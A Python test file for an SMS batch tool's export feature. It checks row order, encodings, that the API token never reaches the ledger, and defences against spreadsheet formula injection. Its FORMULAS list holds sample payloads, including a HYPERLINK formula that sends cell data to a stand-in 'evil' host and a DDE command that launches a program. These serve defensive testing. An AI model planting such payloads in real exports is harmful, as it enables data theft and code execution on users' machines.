"""The export of a batch: every row, safe for a spreadsheet. The ledger never holds the token."""

import csv
import io
import json
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kxsms.domain.cell import disarmed
from tests.conftest import TOKEN, Done, Run
from tests.ledger.scene import (
    DECLINED,
    REFUSED,
    TEXT,
    ledger_file,
    people,
    send_csv,
    send_one,
    taken,
    write_csv,
)
from tests.scripted_gateway import ScriptedGateway, answer, close

OWN = [
    *("kxsms_outcome", "kxsms_task_id", "kxsms_code", "kxsms_message"),
    *("kxsms_delivery", "kxsms_delivered_at", "kxsms_reply"),
]


def exported(done: Done, encoding: str = "utf-8-sig") -> list[dict[str, str]]:
    assert done.status == 0
    return list(csv.DictReader(io.StringIO(done.out.decode(encoding), newline="")))


def test_an_export_has_every_row_in_the_order_of_the_input(run: Run, gateway: ScriptedGateway) -> None:
    write_csv(people(1), "before.csv")
    send_csv(run, file="before.csv")
    numbers = ["13800000001", "+86 138-0000-0009", "138", "13800000009", "13800000002", "13800000003"]
    rows = [(number, f"{TEXT}{number[-1]}") for number in numbers]
    Path("people.csv").write_text(
        "备注,手机,内容\n" + "".join(f'"a,""{n}""\n",{m},{t}\n' for n, (m, t) in enumerate(rows)), "utf-8"
    )
    gateway.script = [answer(), REFUSED, close]
    name = send_csv(run, "--skip-sent", "--skip-invalid").json["batch"]

    done = run("batch", "export", name)
    table = exported(done)

    assert done.out.startswith(b"\xef\xbb\xbf")
    assert list(table[0]) == ["备注", "手机", "内容", *OWN]
    assert [(row["备注"], row["手机"], row["内容"]) for row in table] == [
        (f'a,"{number}"\n', mobile, text) for number, (mobile, text) in enumerate(rows)
    ]
    outcomes = ["skipped", "accepted", "invalid", "duplicate", "rejected", "unknown"]
    assert [row["kxsms_outcome"] for row in table] == outcomes
    assert table[1]["kxsms_task_id"] == "11"
    assert table[4]["kxsms_code"] == "-3"
    assert "3 digits" in table[2]["kxsms_message"]
    assert table[4]["kxsms_message"] == "余额不足"
    lines = [json.loads(line) for line in run("batch", "export", name, "-o", "jsonl").lines]
    assert [{key: value or "" for key, value in line.items()} for line in lines] == table
    assert run("batch", "export", name, "-o", "json").json == lines
    chinese = run("batch", "export", name, "--encoding", "gb18030")
    assert exported(chinese, "gb18030") == table


def test_an_export_of_recipients_that_were_not_sent_to(run: Run, gateway: ScriptedGateway) -> None:
    gateway.otherwise = DECLINED
    write_csv(people(5))
    name = send_csv(run).json["batch"]

    outcomes = [row["kxsms_outcome"] for row in exported(run("batch", "export", name))]

    assert outcomes == ["not_sent"] * 5


@pytest.mark.sqlite
@pytest.mark.parametrize("code", ["0", "-3"])
def test_the_token_is_not_in_the_ledger(run: Run, gateway: ScriptedGateway, code: str) -> None:
    quoted = "s3cret%2Btoken%2Fwith%3Dsigns"
    gateway.otherwise = answer(json.dumps({"Code": code, "Message": f"{TOKEN} {quoted}", "TaskId": TOKEN}))
    name = send_one(run).json["batch"]

    files = list(ledger_file().parent.iterdir())

    assert ledger_file() in files
    for secret in (TOKEN, quoted, "s3cret"):
        assert not [file.name for file in files if secret.encode() in file.read_bytes()]
        assert secret not in run("batch", "export", name).text
    assert run("batch", "show", name).status == 0


FORMULAS = [
    '=HYPERLINK("http://evil/"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\ttab",
    "  =1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
    "'=1",
    "+86 138",
    "-1.2.3",
]
PLAIN = [
    "5",
    "-5",
    "+5",
    "-5.50",
    "+8613800000000",
    "+86 138-0000-0009",
    "1.5-",
    "-.5",
    "a=b",
    "'",
    "'5",
    "张三",
]


def test_a_spreadsheet_runs_no_formula_of_an_export(run: Run, gateway: ScriptedGateway) -> None:
    """This holds for cells, names of columns, the gateway's messages, and replies from phones."""
    cells = [*FORMULAS, *PLAIN]
    text = io.StringIO()
    writer = csv.writer(text, quoting=csv.QUOTE_ALL)
    writer.writerow(["=name", "mobile", "content"])
    writer.writerows(
        (cell, mobile, TEXT) for cell, (mobile, _) in zip(cells, people(len(cells)), strict=True)
    )
    Path("people.csv").write_text(text.getvalue(), "utf-8", newline="")
    gateway.otherwise = answer('{"Code":"0","Message":"=1+1","TaskId":"-1"}')
    name = send_csv(run).json["batch"]
    reply = {"Mobile": people(1)[0][0], "Content": "@run", "MoTime": "2099-01-01 00:00:00"}
    gateway.script = [answer(json.dumps({"Code": "0", "Data": [reply]}))]
    gateway.otherwise = answer('{"Code":"0","Data":[]}')
    assert run("mo").status == 0

    table = exported(run("batch", "export", name))
    exact = exported(run("batch", "export", name, "--plain"))

    assert [row["'=name"] for row in table] == [*(f"'{cell}" for cell in FORMULAS), *PLAIN]
    facts = ("kxsms_message", "kxsms_task_id", "kxsms_reply")
    assert [table[0][fact] for fact in facts] == ["'=1+1", "-1", "'@run"]
    assert exported(run("batch", "export", name, "-o", "csv")) == exact
    assert [row["=name"] for row in exact] == cells
    assert [exact[0][fact] for fact in facts] == ["=1+1", "-1", "@run"]
    for output in ("json", "jsonl"):  # for programs, unchanged
        assert '"=name": "@SUM(1)"' in run("batch", "export", name, "-o", output).text


def test_an_export_can_be_sent_again(run: Run, gateway: ScriptedGateway) -> None:
    """With --plain each text is unchanged to the last character, even one that starts with an apostrophe."""
    texts = [f"{cell}【科】" for cell in (*FORMULAS, *PLAIN)]
    rows = [(mobile, text) for (mobile, _), text in zip(people(len(texts)), texts, strict=True)]
    with Path("people.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([("mobile", "content"), *rows])
    name = send_csv(run).json["batch"]
    sent = sorted(taken(gateway))
    Path("again.csv").write_bytes(run("batch", "export", name, "--plain").out)

    done = send_csv(run, "--again", file="again.csv")

    assert done.status == 0
    assert sorted(taken(gateway)) == sent
    assert len(sent) == len(texts)


@given(st.text(st.sampled_from("=+-@＝'\t\r\n \ufeff.5a") | st.characters(codec="utf-8"), max_size=8))
def test_a_disarmed_cell_is_not_a_formula_and_can_be_restored(cell: str) -> None:
    made = disarmed(cell)
    start = made.lstrip(" \t\r\n\ufeff")[:1]
    assert start not in tuple("=@＝＠")
    if start in tuple("+-＋－"):
        assert not re.search(r"[^\W\d]|[(!|=@＝＠]", made)
    is_marked = made.startswith("'") and disarmed(made[1:]) == made
    assert (made[1:] if is_marked else made) == cell
